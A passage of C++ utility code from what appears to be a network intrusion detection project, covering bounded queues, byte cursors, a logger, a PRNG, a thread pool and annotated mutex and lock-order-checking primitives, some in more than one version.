          metrics_->backpressure_wait_seconds->observe(
              std::chrono::duration<double>(std::chrono::steady_clock::now() - wait_start)
                  .count());
        }
      } else {
        while (!admits(weight) && !closed_) not_full_.wait(mu_);
      }
      if (closed_) return false;
      weight_ += weight;
      items_.emplace_back(std::move(value), weight);
      if (metrics_ && metrics_->pushed) metrics_->pushed->add();
      publish_gauges();
    }
    not_empty_.notify_one();
    return true;
  }

  /// Non-blocking push; false when full, over budget, or closed.
  bool try_push(T value, std::size_t weight = 0) {
    {
      MutexLock lock(mu_);
      if (closed_ || !admits(weight)) return false;
      weight_ += weight;
      items_.emplace_back(std::move(value), weight);
      if (metrics_ && metrics_->pushed) metrics_->pushed->add();
      publish_gauges();
    }
    not_empty_.notify_one();
    return true;
  }

  /// Blocking pop; nullopt once the queue is closed *and* drained.
  std::optional<T> pop() {
    std::optional<T> value;
    {
      MutexLock lock(mu_);
      while (items_.empty() && !closed_) not_empty_.wait(mu_);
      if (items_.empty()) return std::nullopt;  // closed and drained
      value = std::move(items_.front().first);
      weight_ -= items_.front().second;
      items_.pop_front();
      publish_gauges();
    }
    not_full_.notify_one();
    return value;
  }

  /// Blocking batched pop: waits until the queue is non-empty (or
  /// closed), then moves up to `max_items` items into `out` — oldest
  /// first, under one lock acquisition. `out` is cleared first; its
  /// capacity is reused across calls. Returns the number of items
  /// popped; 0 means closed *and* drained (the consumer-loop exit
  /// condition, mirroring pop()'s nullopt). Popping a batch can free
  /// many producer slots at once, so all waiting producers are woken.
  std::size_t pop_batch(std::vector<T>& out, std::size_t max_items) {
    out.clear();
    if (max_items == 0) max_items = 1;
    {
      MutexLock lock(mu_);
      while (items_.empty() && !closed_) not_empty_.wait(mu_);
      const std::size_t n = std::min(max_items, items_.size());
      if (out.capacity() < n) out.reserve(n);
      for (std::size_t i = 0; i < n; ++i) {
        out.push_back(std::move(items_.front().first));
        weight_ -= items_.front().second;
        items_.pop_front();
      }
      publish_gauges();
    }
    if (out.size() == 1) {
      not_full_.notify_one();
    } else if (out.size() > 1) {
      not_full_.notify_all();
    }
    return out.size();
  }

  /// Non-blocking pop; nullopt when empty.
  std::optional<T> try_pop() {
    std::optional<T> out;
    {
      MutexLock lock(mu_);
      if (items_.empty()) return std::nullopt;
      out = std::move(items_.front().first);
      weight_ -= items_.front().second;
      items_.pop_front();
      publish_gauges();
    }
    not_full_.notify_one();
    return out;
  }

  /// Close: producers fail from now on; consumers drain what remains.
  void close() {
    {
      MutexLock lock(mu_);
      closed_ = true;
    }
    not_empty_.notify_all();
    not_full_.notify_all();
  }

  [[nodiscard]] std::size_t size() const {
    MutexLock lock(mu_);
    return items_.size();
  }
  /// Summed weights of the items currently queued.
  [[nodiscard]] std::size_t weight() const {
    MutexLock lock(mu_);
    return weight_;
  }
  [[nodiscard]] bool closed() const {
    MutexLock lock(mu_);
    return closed_;
  }

 private:
  void publish_gauges() const REQUIRES(mu_) {
    if (!metrics_) return;
    if (metrics_->depth) metrics_->depth->set(static_cast<std::int64_t>(items_.size()));
    if (metrics_->depth_peak) {
      metrics_->depth_peak->set_max(static_cast<std::int64_t>(items_.size()));
    }
    if (metrics_->bytes) metrics_->bytes->set(static_cast<std::int64_t>(weight_));
  }

  /// Empty-queue admission keeps oversized items live.
  [[nodiscard]] bool admits(std::size_t weight) const REQUIRES(mu_) {
    if (items_.size() >= capacity_) return false;
    if (max_weight_ == 0 || items_.empty()) return true;
    return weight_ + weight <= max_weight_;
  }

  const std::size_t capacity_;
  const std::size_t max_weight_;
  mutable Mutex mu_{"BoundedQueue"};
  CondVar not_full_;
  CondVar not_empty_;
  std::deque<std::pair<T, std::size_t>> items_ GUARDED_BY(mu_);
  std::size_t weight_ GUARDED_BY(mu_) = 0;
  bool closed_ GUARDED_BY(mu_) = false;
  const QueueMetrics* metrics_ GUARDED_BY(mu_) = nullptr;
};

}  // namespace senids::util
