// Bounded multi-producer/multi-consumer queue. Backpressure container
// for deployments that decouple a capture thread from analysis sessions:
// producers block (or fail, with try_push) when the queue is full, so a
// traffic burst cannot exhaust memory.
#pragma once

#include <condition_variable>
#include <deque>
#include <mutex>
#include <optional>

namespace senids::util {

template <typename T>
class BoundedQueue {
 public:
  explicit BoundedQueue(std::size_t capacity) : capacity_(capacity ? capacity : 1) {}

  BoundedQueue(const BoundedQueue&) = delete;
  BoundedQueue& operator=(const BoundedQueue&) = delete;

  /// Blocking push; returns false if the queue was closed.
  bool push(T value) {
    std::unique_lock lock(mu_);
    not_full_.wait(lock, [this] { return items_.size() < capacity_ || closed_; });
    if (closed_) return false;
    items_.push_back(std::move(value));
    lock.unlock();
    not_empty_.notify_one();
    return true;
  }

  /// Non-blocking push; false when full or closed.
  bool try_push(T value) {
    {
      std::lock_guard lock(mu_);
      if (closed_ || items_.size() >= capacity_) return false;
      items_.push_back(std::move(value));
    }
    not_empty_.notify_one();
    return true;
  }

  /// Blocking pop; nullopt once the queue is closed *and* drained.
  std::optional<T> pop() {
    std::unique_lock lock(mu_);
    not_empty_.wait(lock, [this] { return !items_.empty() || closed_; });
    if (items_.empty()) return std::nullopt;  // closed and drained
    T value = std::move(items_.front());
    items_.pop_front();
    lock.unlock();
    not_full_.notify_one();
    return value;
  }

  /// Non-blocking pop; nullopt when empty.
  std::optional<T> try_pop() {
    std::optional<T> out;
    {
      std::lock_guard lock(mu_);
      if (items_.empty()) return std::nullopt;
      out = std::move(items_.front());
      items_.pop_front();
    }
    not_full_.notify_one();
    return out;
  }

  /// Close: producers fail from now on; consumers drain what remains.
  void close() {
    {
      std::lock_guard lock(mu_);
      closed_ = true;
    }
    not_empty_.notify_all();
    not_full_.notify_all();
  }

  [[nodiscard]] std::size_t size() const {
    std::lock_guard lock(mu_);
    return items_.size();
  }
  [[nodiscard]] bool closed() const {
    std::lock_guard lock(mu_);
    return closed_;
  }

 private:
  const std::size_t capacity_;
  mutable std::mutex mu_;
  std::condition_variable not_full_;
  std::condition_variable not_empty_;
  std::deque<T> items_;
  bool closed_ = false;
};

}  // namespace senids::util
