// Byte-buffer primitives shared by every subsystem: owned buffers, views,
// little/big-endian cursors, and hex conversion.
#pragma once

#include <cstdint>
#include <cstddef>
#include <optional>
#include <span>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace senids::util {

/// Owned, growable byte buffer. We deliberately use a plain vector so all
/// standard algorithms apply; helpers below provide structured access.
using Bytes = std::vector<std::uint8_t>;

/// Non-owning read-only view over bytes.
using ByteView = std::span<const std::uint8_t>;

/// View over a string's bytes without copying.
inline ByteView as_bytes(std::string_view s) noexcept {
  return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()};
}

/// Copy a string's bytes into an owned buffer.
Bytes to_bytes(std::string_view s);

/// Interpret a byte view as text (lossy for non-ASCII; used in tests/logs).
std::string to_string(ByteView b);

/// Append primitives in little-endian order (x86 and pcap are LE formats).
void put_u8(Bytes& b, std::uint8_t v);
void put_u16le(Bytes& b, std::uint16_t v);
void put_u32le(Bytes& b, std::uint32_t v);
void put_u16be(Bytes& b, std::uint16_t v);
void put_u32be(Bytes& b, std::uint32_t v);

/// Error thrown when a cursor reads past the end of its view.
class OutOfBounds : public std::runtime_error {
 public:
  OutOfBounds() : std::runtime_error("byte cursor out of bounds") {}
};

/// Forward-only reader over a ByteView. Bounds-checked: throws OutOfBounds
/// rather than reading past the end, so malformed network input cannot
/// drive reads out of the packet buffer.
class Cursor {
 public:
  explicit Cursor(ByteView data) noexcept : data_(data) {}

  [[nodiscard]] std::size_t offset() const noexcept { return pos_; }
  [[nodiscard]] std::size_t remaining() const noexcept { return data_.size() - pos_; }
  [[nodiscard]] bool empty() const noexcept { return remaining() == 0; }

  /// Peek one byte without consuming; nullopt at end.
  [[nodiscard]] std::optional<std::uint8_t> peek() const noexcept {
    if (empty()) return std::nullopt;
    return data_[pos_];
  }

  std::uint8_t u8();
  std::uint16_t u16le();
  std::uint32_t u32le();
  std::uint16_t u16be();
  std::uint32_t u32be();

  /// Consume `n` bytes and return a view of them.
  ByteView take(std::size_t n);

  /// Skip `n` bytes.
  void skip(std::size_t n);

  /// View of everything not yet consumed.
  [[nodiscard]] ByteView rest() const noexcept { return data_.subspan(pos_); }

 private:
  ByteView data_;
  std::size_t pos_ = 0;
};

/// Lowercase hex encoding, e.g. {0xde,0xad} -> "dead".
std::string to_hex(ByteView b);

/// Parse hex text (whitespace tolerated) into bytes; nullopt on bad digit
/// or odd digit count.
std::optional<Bytes> from_hex(std::string_view hex);

}  // namespace senids::util
