#include "util/log.hpp"

#include <cctype>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <ctime>

namespace senids::util {

namespace {

/// Startup level: SENIDS_LOG_LEVEL name or number, default kWarn.
LogLevel level_from_environment() {
  // Startup-only, read-only environment access.  NOLINTNEXTLINE(concurrency-mt-unsafe)
  const char* raw = std::getenv("SENIDS_LOG_LEVEL");
  if (!raw || !*raw) return LogLevel::kWarn;
  std::string value(raw);
  for (char& c : value) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  if (value == "debug" || value == "0") return LogLevel::kDebug;
  if (value == "info" || value == "1") return LogLevel::kInfo;
  if (value == "warn" || value == "warning" || value == "2") return LogLevel::kWarn;
  if (value == "error" || value == "3") return LogLevel::kError;
  if (value == "off" || value == "none" || value == "4") return LogLevel::kOff;
  return LogLevel::kWarn;
}

}  // namespace

Log::Log() : level_(level_from_environment()) {}

Log& Log::instance() {
  static Log log;
  return log;
}

void Log::set_level(LogLevel level) noexcept {
  instance().level_.store(level, std::memory_order_relaxed);
}

LogLevel Log::level() noexcept {
  return instance().level_.load(std::memory_order_relaxed);
}

void Log::set_sink(Sink sink) {
  Log& log = instance();
  MutexLock lock(log.mu_);
  log.sink_ = std::move(sink);
}

void Log::write(LogLevel level, const std::string& message) {
  Log& log = instance();
  if (level < log.level_.load(std::memory_order_relaxed)) return;
  // Copy the sink out and call it unlocked: callers log while holding
  // pipeline locks, and a sink is arbitrary code — invoking it under mu_
  // would put "Log -> whatever the sink takes" into the lock-order graph
  // and deadlock any thread that logs while holding that lock. The
  // stderr default stays under mu_ (no callback, keeps lines ordered).
  Sink sink_copy;
  {
    MutexLock lock(log.mu_);
    if (!log.sink_) {
      write_stderr_locked(level, message);
      return;
    }
    sink_copy = log.sink_;
  }
  sink_copy(level, message);
}

void Log::write_stderr_locked(LogLevel level, const std::string& message) {
  static constexpr const char* kNames[] = {"DEBUG", "INFO", "WARN", "ERROR"};
  const auto now = std::chrono::system_clock::now();
  const std::time_t secs = std::chrono::system_clock::to_time_t(now);
  const auto millis = std::chrono::duration_cast<std::chrono::milliseconds>(
                          now.time_since_epoch())
                          .count() %
                      1000;
  std::tm tm{};
  localtime_r(&secs, &tm);
  char stamp[32];
  std::strftime(stamp, sizeof stamp, "%Y-%m-%d %H:%M:%S", &tm);
  std::fprintf(stderr, "[%s.%03d] [%s] %s\n", stamp, static_cast<int>(millis),
               kNames[static_cast<int>(level)], message.c_str());
}

}  // namespace senids::util
