#include "util/log.hpp"

#include <cstdio>

namespace senids::util {

Log& Log::instance() {
  static Log log;
  return log;
}

void Log::set_level(LogLevel level) noexcept {
  instance().level_ = level;
}

LogLevel Log::level() noexcept {
  return instance().level_;
}

void Log::set_sink(Sink sink) {
  std::lock_guard lock(instance().mu_);
  instance().sink_ = std::move(sink);
}

void Log::write(LogLevel level, const std::string& message) {
  Log& log = instance();
  if (level < log.level_) return;
  std::lock_guard lock(log.mu_);
  if (log.sink_) {
    log.sink_(level, message);
    return;
  }
  static constexpr const char* kNames[] = {"DEBUG", "INFO", "WARN", "ERROR"};
  std::fprintf(stderr, "[%s] %s\n", kNames[static_cast<int>(level)], message.c_str());
}

}  // namespace senids::util
