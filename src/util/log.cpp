#include "util/log.hpp"

#include <cctype>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <ctime>

namespace senids::util {

namespace {

/// Startup level: SENIDS_LOG_LEVEL name or number, default kWarn.
LogLevel level_from_environment() {
  const char* raw = std::getenv("SENIDS_LOG_LEVEL");
  if (!raw || !*raw) return LogLevel::kWarn;
  std::string value(raw);
  for (char& c : value) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  if (value == "debug" || value == "0") return LogLevel::kDebug;
  if (value == "info" || value == "1") return LogLevel::kInfo;
  if (value == "warn" || value == "warning" || value == "2") return LogLevel::kWarn;
  if (value == "error" || value == "3") return LogLevel::kError;
  if (value == "off" || value == "none" || value == "4") return LogLevel::kOff;
  return LogLevel::kWarn;
}

}  // namespace

Log::Log() : level_(level_from_environment()) {}

Log& Log::instance() {
  static Log log;
  return log;
}

void Log::set_level(LogLevel level) noexcept {
  instance().level_.store(level, std::memory_order_relaxed);
}

LogLevel Log::level() noexcept {
  return instance().level_.load(std::memory_order_relaxed);
}

void Log::set_sink(Sink sink) {
  std::lock_guard lock(instance().mu_);
  instance().sink_ = std::move(sink);
}

void Log::write(LogLevel level, const std::string& message) {
  Log& log = instance();
  if (level < log.level_.load(std::memory_order_relaxed)) return;
  std::lock_guard lock(log.mu_);
  if (log.sink_) {
    log.sink_(level, message);
    return;
  }
  static constexpr const char* kNames[] = {"DEBUG", "INFO", "WARN", "ERROR"};
  const auto now = std::chrono::system_clock::now();
  const std::time_t secs = std::chrono::system_clock::to_time_t(now);
  const auto millis = std::chrono::duration_cast<std::chrono::milliseconds>(
                          now.time_since_epoch())
                          .count() %
                      1000;
  std::tm tm{};
  localtime_r(&secs, &tm);
  char stamp[32];
  std::strftime(stamp, sizeof stamp, "%Y-%m-%d %H:%M:%S", &tm);
  std::fprintf(stderr, "[%s.%03d] [%s] %s\n", stamp, static_cast<int>(millis),
               kNames[static_cast<int>(level)], message.c_str());
}

}  // namespace senids::util
