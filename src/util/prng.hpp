// Deterministic PRNG (xoshiro256**) so every generator, test, and bench in
// the repository is reproducible from an explicit seed. We do not use
// std::mt19937 because its distributions are not portable across standard
// library implementations; all derived draws here are hand-rolled.
#pragma once

#include <cstdint>
#include <vector>

#include "util/bytes.hpp"

namespace senids::util {

class Prng {
 public:
  /// Seeds via splitmix64 expansion of `seed`, per the xoshiro authors.
  explicit Prng(std::uint64_t seed) noexcept;

  /// Next raw 64-bit draw.
  std::uint64_t next() noexcept;

  /// Uniform in [0, bound). bound must be nonzero. Uses rejection sampling
  /// so the result is exactly uniform.
  std::uint64_t below(std::uint64_t bound) noexcept;

  /// Uniform in [lo, hi] inclusive. Requires lo <= hi.
  std::int64_t range(std::int64_t lo, std::int64_t hi) noexcept;

  /// True with probability p (clamped to [0,1]).
  bool chance(double p) noexcept;

  /// One uniformly random byte.
  std::uint8_t byte() noexcept { return static_cast<std::uint8_t>(next() & 0xff); }

  /// `n` uniformly random bytes.
  Bytes bytes(std::size_t n);

  /// Uniformly pick an element of a non-empty vector.
  template <typename T>
  const T& pick(const std::vector<T>& v) noexcept {
    return v[static_cast<std::size_t>(below(v.size()))];
  }

  /// Fisher-Yates shuffle.
  template <typename T>
  void shuffle(std::vector<T>& v) noexcept {
    for (std::size_t i = v.size(); i > 1; --i) {
      std::size_t j = static_cast<std::size_t>(below(i));
      using std::swap;
      swap(v[i - 1], v[j]);
    }
  }

 private:
  std::uint64_t s_[4];
};

}  // namespace senids::util
