// Fixed-size worker pool. The NIDS pipeline dispatches per-flow analysis
// units (extraction + disassembly + semantic matching) to this pool; the
// stages are CPU-bound and independent across flows, so the pool gives
// near-linear scaling (see bench_parallel_scaling).
#pragma once

#include <cstddef>
#include <deque>
#include <functional>
#include <thread>
#include <vector>

#include "util/sync.hpp"

namespace senids::util {

class ThreadPool {
 public:
  /// Spawns `threads` workers (>= 1). The pool joins on destruction after
  /// draining queued work.
  explicit ThreadPool(std::size_t threads);

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;
  ~ThreadPool();

  /// Enqueue a task. Safe from any thread, including pool workers.
  void submit(std::function<void()> task);

  /// Block until every task submitted so far (and tasks they spawned) has
  /// finished. Safe to call repeatedly; not from a worker thread.
  void wait_idle();

  [[nodiscard]] std::size_t thread_count() const noexcept { return workers_.size(); }

 private:
  void worker_loop();

  Mutex mu_{"ThreadPool"};
  CondVar work_cv_;   // signaled when work arrives or stopping
  CondVar idle_cv_;   // signaled when pool may have gone idle
  std::deque<std::function<void()>> queue_ GUARDED_BY(mu_);
  std::size_t active_ GUARDED_BY(mu_) = 0;
  bool stop_ GUARDED_BY(mu_) = false;
  std::vector<std::thread> workers_;
};

}  // namespace senids::util
