// Minimal leveled logger. Thread-safe; writes to stderr by default with
// a wall-clock timestamp prefix. The NIDS engine logs alerts and stage
// diagnostics through this so examples and benches can silence or
// redirect output uniformly. The startup level honors the
// SENIDS_LOG_LEVEL environment variable (debug|info|warn|error|off, or
// 0-4), so tools raise verbosity without code changes.
#pragma once

#include <atomic>
#include <functional>
#include <sstream>
#include <string>

#include "util/sync.hpp"

namespace senids::util {

enum class LogLevel { kDebug = 0, kInfo = 1, kWarn = 2, kError = 3, kOff = 4 };

/// Global logger configuration. A process-wide singleton is appropriate
/// here: log destination is genuinely process-global state.
class Log {
 public:
  using Sink = std::function<void(LogLevel, const std::string&)>;

  static void set_level(LogLevel level) noexcept;
  static LogLevel level() noexcept;

  /// Replace the output sink (default writes
  /// "[YYYY-mm-dd HH:MM:SS.mmm] [level] message" to stderr).
  ///
  /// A custom sink is invoked *outside* the logger's mutex (holding it
  /// across an arbitrary callback is a deadlock-by-lock-order waiting to
  /// happen — the callback could acquire a lock that is elsewhere held
  /// while logging). Consequences a sink must handle: concurrent
  /// invocation from multiple threads, and a possible straggler call
  /// shortly after set_sink() replaces it.
  static void set_sink(Sink sink);

  static void write(LogLevel level, const std::string& message);

 private:
  Log();
  static Log& instance();
  /// Default stderr line writer; called with mu_ held (touches no
  /// guarded state, the lock only keeps concurrent lines ordered).
  static void write_stderr_locked(LogLevel level, const std::string& message);

  Mutex mu_{"Log"};
  std::atomic<LogLevel> level_{LogLevel::kWarn};
  Sink sink_ GUARDED_BY(mu_);
};

namespace detail {
/// Stream-style one-shot log line: LogLine(kInfo) << "x=" << x;
class LogLine {
 public:
  explicit LogLine(LogLevel level) : level_(level) {}
  LogLine(const LogLine&) = delete;
  LogLine& operator=(const LogLine&) = delete;
  ~LogLine() { Log::write(level_, out_.str()); }

  template <typename T>
  LogLine& operator<<(const T& v) {
    out_ << v;
    return *this;
  }

 private:
  LogLevel level_;
  std::ostringstream out_;
};
}  // namespace detail

inline detail::LogLine log_debug() { return detail::LogLine(LogLevel::kDebug); }
inline detail::LogLine log_info() { return detail::LogLine(LogLevel::kInfo); }
inline detail::LogLine log_warn() { return detail::LogLine(LogLevel::kWarn); }
inline detail::LogLine log_error() { return detail::LogLine(LogLevel::kError); }

}  // namespace senids::util
