// Classic 16-bytes-per-row hexdump used by examples and debug logging.
#pragma once

#include <string>

#include "util/bytes.hpp"

namespace senids::util {

/// Render `data` as "offset  hex bytes  |ascii|" rows.
std::string hexdump(ByteView data, std::size_t base_offset = 0);

}  // namespace senids::util
