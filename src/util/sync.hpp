// Annotated synchronization primitives: the one place in the codebase
// that is allowed to touch <mutex> directly. Everything else locks
// through util::Mutex / util::MutexLock / util::CondVar so that two
// orthogonal safety nets cover every critical section:
//
//  1. Clang Thread Safety Analysis (compile time). The macros below
//     (CAPABILITY, GUARDED_BY, REQUIRES, ...) expand to Clang's
//     thread-safety attributes under Clang and to nothing elsewhere, so
//     "which mutex protects this field" and "which lock must be held to
//     call this function" are compiler-enforced contracts: the CI
//     thread-safety job builds everything with -Werror=thread-safety
//     -Wthread-safety-beta, and an unguarded access fails the build
//     (tests/compile_fail proves the analysis actually fires).
//
//  2. A runtime lock-order checker (debug/TSan builds, or any build via
//     SENIDS_LOCK_ORDER=1). Every Mutex belongs to a named *lock class*
//     (per structure, not per instance — all VerdictCache shard locks
//     are one class, the way kernel lockdep groups locks by init site).
//     Each thread keeps a stack of held classes; acquiring B while
//     holding A records the edge A->B in a global acquisition-order
//     graph. The first acquisition that would close a cycle — the
//     classic cross-mutex deadlock TSA cannot see, because each
//     individual critical section is well-formed — aborts immediately
//     with both conflicting chains, even if the second thread never
//     actually blocks. Same-class nesting aborts too: with one lock per
//     class instance that is a guaranteed self-deadlock, and with many
//     instances (cache shards) it is an unordered-peer deadlock waiting
//     for two threads to pick opposite orders.
//
// Adding a new guarded structure: give it a `util::Mutex mu_{"Class"}`,
// mark every field it protects `GUARDED_BY(mu_)`, mark private helpers
// that assume the lock `REQUIRES(mu_)`, and lock with `util::MutexLock`.
// See DESIGN.md "Concurrency safety" for conventions and the lock
// hierarchy of the pipeline.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <mutex>

// --------------------------------------------------- annotation macros
// Clang thread-safety attribute spellings, compiled away on other
// compilers (GCC accepts none of these). Names follow the Clang
// documentation so they grep cleanly against it.
#if defined(__clang__) && defined(__has_attribute)
#define SENIDS_TSA__(x) __attribute__((x))
#else
#define SENIDS_TSA__(x)
#endif

#define CAPABILITY(x) SENIDS_TSA__(capability(x))
#define SCOPED_CAPABILITY SENIDS_TSA__(scoped_lockable)
#define GUARDED_BY(x) SENIDS_TSA__(guarded_by(x))
#define PT_GUARDED_BY(x) SENIDS_TSA__(pt_guarded_by(x))
#define ACQUIRED_BEFORE(...) SENIDS_TSA__(acquired_before(__VA_ARGS__))
#define ACQUIRED_AFTER(...) SENIDS_TSA__(acquired_after(__VA_ARGS__))
#define REQUIRES(...) SENIDS_TSA__(requires_capability(__VA_ARGS__))
#define REQUIRES_SHARED(...) SENIDS_TSA__(requires_shared_capability(__VA_ARGS__))
#define ACQUIRE(...) SENIDS_TSA__(acquire_capability(__VA_ARGS__))
#define ACQUIRE_SHARED(...) SENIDS_TSA__(acquire_shared_capability(__VA_ARGS__))
#define RELEASE(...) SENIDS_TSA__(release_capability(__VA_ARGS__))
#define RELEASE_SHARED(...) SENIDS_TSA__(release_shared_capability(__VA_ARGS__))
#define TRY_ACQUIRE(...) SENIDS_TSA__(try_acquire_capability(__VA_ARGS__))
#define EXCLUDES(...) SENIDS_TSA__(locks_excluded(__VA_ARGS__))
#define ASSERT_CAPABILITY(x) SENIDS_TSA__(assert_capability(x))
#define RETURN_CAPABILITY(x) SENIDS_TSA__(lock_returned(x))
#define NO_THREAD_SAFETY_ANALYSIS SENIDS_TSA__(no_thread_safety_analysis)

namespace senids::util {

// ------------------------------------------------- lock-order checker
namespace lockorder {

/// Stable id of a lock class (index into the global class table).
using ClassId = std::size_t;

namespace detail {
// Defined in sync.cpp; default is off unless the translation unit of
// sync.cpp was built with SENIDS_LOCK_ORDER_DEFAULT_ON (debug/TSan
// builds) — the environment variable SENIDS_LOCK_ORDER=1|0 overrides
// either way at process start.
extern std::atomic<bool> g_enabled;
}  // namespace detail

/// Cheap inline gate: one relaxed load on every lock/unlock when the
/// checker is compiled-default-off (release builds).
[[nodiscard]] inline bool enabled() noexcept {
  return detail::g_enabled.load(std::memory_order_relaxed);
}

/// Runtime toggle (tests; overrides the build default and environment).
void set_enabled(bool enabled) noexcept;

/// Intern `name` as a lock class. Idempotent; safe pre-main.
[[nodiscard]] ClassId class_id(const char* name);

/// Record a blocking acquisition of `id` by the calling thread: checks
/// the acquisition-order graph for a cycle (aborting with both chains on
/// one), records the new order edge, and pushes `id` on the thread's
/// held stack. Call *before* blocking on the underlying mutex so an
/// inversion is reported instead of deadlocking.
void on_acquire(ClassId id);

/// Record a successful try_lock: pushes the held stack (later
/// acquisitions order after it) but records no inbound edge and runs no
/// cycle check — a try-acquire never blocks, so it cannot deadlock.
void on_try_acquire(ClassId id);

/// Pop `id` from the calling thread's held stack (searched from the
/// top: out-of-order release is legal).
void on_release(ClassId id) noexcept;

/// Number of order edges recorded so far (test observability).
[[nodiscard]] std::size_t edge_count();

/// Drop all recorded edges and witnesses (test isolation; held stacks
/// are per-thread and unaffected).
void reset_graph();

}  // namespace lockorder

// --------------------------------------------------------------- Mutex

/// Exclusive mutex with a thread-safety capability and a lock class.
/// Same cost as std::mutex when the lock-order checker is off (one
/// relaxed load + branch per operation).
class CAPABILITY("mutex") Mutex {
 public:
  /// `lock_class` names the acquisition-order class this mutex belongs
  /// to; all instances guarding the same structure should share one
  /// (string literal — the pointer must stay valid for the process).
  explicit Mutex(const char* lock_class = "Mutex")
      : class_(lockorder::class_id(lock_class)) {}

  Mutex(const Mutex&) = delete;
  Mutex& operator=(const Mutex&) = delete;

  void lock() ACQUIRE() {
    if (lockorder::enabled()) lockorder::on_acquire(class_);
    mu_.lock();
  }

  bool try_lock() TRY_ACQUIRE(true) {
    if (!mu_.try_lock()) return false;
    if (lockorder::enabled()) lockorder::on_try_acquire(class_);
    return true;
  }

  void unlock() RELEASE() {
    mu_.unlock();
    if (lockorder::enabled()) lockorder::on_release(class_);
  }

  /// The wrapped std::mutex, for CondVar's wait-path only: going through
  /// this bypasses both the capability tracking and the order checker.
  [[nodiscard]] std::mutex& native() noexcept { return mu_; }

 private:
  std::mutex mu_;
  lockorder::ClassId class_;
};

// ----------------------------------------------------------- MutexLock

/// Tag type: adopt a mutex the caller already holds.
struct AdoptLock {};
inline constexpr AdoptLock kAdoptLock{};

/// Scoped lock with early-release support (the releasable-lock shape:
/// TSA tracks the unlock() so a second unlock or a post-unlock guarded
/// access is a compile error under Clang).
class SCOPED_CAPABILITY MutexLock {
 public:
  explicit MutexLock(Mutex& mu) ACQUIRE(mu) : mu_(mu) { mu_.lock(); }

  /// Adopt: `mu` must already be held by the calling thread; the guard
  /// takes over responsibility for releasing it.
  MutexLock(Mutex& mu, AdoptLock) REQUIRES(mu) : mu_(mu) {}

  MutexLock(const MutexLock&) = delete;
  MutexLock& operator=(const MutexLock&) = delete;

  /// Release before end of scope (to notify a condvar off-lock, say).
  void unlock() RELEASE() {
    mu_.unlock();
    owns_ = false;
  }

  ~MutexLock() RELEASE() {
    if (owns_) mu_.unlock();
  }

 private:
  Mutex& mu_;
  bool owns_ = true;
};

// ------------------------------------------------------------- CondVar

/// Condition variable bound to util::Mutex. wait() requires the mutex
/// held (compiler-enforced under Clang); the internal unlock/relock of
/// the wait protocol intentionally bypasses the order checker — the
/// mutex conceptually stays held (it is re-acquired before return, and
/// a correctly used condvar waits with the mutex on top of the held
/// stack, so no order edge could change).
class CondVar {
 public:
  CondVar() = default;
  CondVar(const CondVar&) = delete;
  CondVar& operator=(const CondVar&) = delete;

  void wait(Mutex& mu) REQUIRES(mu) {
    std::unique_lock<std::mutex> native(mu.native(), std::adopt_lock);
    cv_.wait(native);
    native.release();  // ownership stays with the caller's MutexLock
  }

  template <typename Predicate>
  void wait(Mutex& mu, Predicate pred) REQUIRES(mu) {
    while (!pred()) wait(mu);
  }

  void notify_one() noexcept { cv_.notify_one(); }
  void notify_all() noexcept { cv_.notify_all(); }

 private:
  std::condition_variable cv_;
};

}  // namespace senids::util
