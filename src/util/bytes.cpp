#include "util/bytes.hpp"

#include <cctype>

namespace senids::util {

Bytes to_bytes(std::string_view s) {
  return Bytes(s.begin(), s.end());
}

std::string to_string(ByteView b) {
  return std::string(reinterpret_cast<const char*>(b.data()), b.size());
}

void put_u8(Bytes& b, std::uint8_t v) { b.push_back(v); }

void put_u16le(Bytes& b, std::uint16_t v) {
  b.push_back(static_cast<std::uint8_t>(v & 0xff));
  b.push_back(static_cast<std::uint8_t>(v >> 8));
}

void put_u32le(Bytes& b, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) b.push_back(static_cast<std::uint8_t>((v >> (8 * i)) & 0xff));
}

void put_u16be(Bytes& b, std::uint16_t v) {
  b.push_back(static_cast<std::uint8_t>(v >> 8));
  b.push_back(static_cast<std::uint8_t>(v & 0xff));
}

void put_u32be(Bytes& b, std::uint32_t v) {
  for (int i = 3; i >= 0; --i) b.push_back(static_cast<std::uint8_t>((v >> (8 * i)) & 0xff));
}

std::uint8_t Cursor::u8() {
  if (remaining() < 1) throw OutOfBounds{};
  return data_[pos_++];
}

std::uint16_t Cursor::u16le() {
  if (remaining() < 2) throw OutOfBounds{};
  std::uint16_t v = static_cast<std::uint16_t>(data_[pos_] | (data_[pos_ + 1] << 8));
  pos_ += 2;
  return v;
}

std::uint32_t Cursor::u32le() {
  if (remaining() < 4) throw OutOfBounds{};
  std::uint32_t v = 0;
  for (int i = 3; i >= 0; --i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
  pos_ += 4;
  return v;
}

std::uint16_t Cursor::u16be() {
  if (remaining() < 2) throw OutOfBounds{};
  std::uint16_t v = static_cast<std::uint16_t>((data_[pos_] << 8) | data_[pos_ + 1]);
  pos_ += 2;
  return v;
}

std::uint32_t Cursor::u32be() {
  if (remaining() < 4) throw OutOfBounds{};
  std::uint32_t v = 0;
  for (int i = 0; i < 4; ++i) v = (v << 8) | data_[pos_ + static_cast<std::size_t>(i)];
  pos_ += 4;
  return v;
}

ByteView Cursor::take(std::size_t n) {
  if (remaining() < n) throw OutOfBounds{};
  ByteView v = data_.subspan(pos_, n);
  pos_ += n;
  return v;
}

void Cursor::skip(std::size_t n) {
  if (remaining() < n) throw OutOfBounds{};
  pos_ += n;
}

std::string to_hex(ByteView b) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(b.size() * 2);
  for (std::uint8_t v : b) {
    out.push_back(kDigits[v >> 4]);
    out.push_back(kDigits[v & 0xf]);
  }
  return out;
}

namespace {
int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}
}  // namespace

std::optional<Bytes> from_hex(std::string_view hex) {
  Bytes out;
  int hi = -1;
  for (char c : hex) {
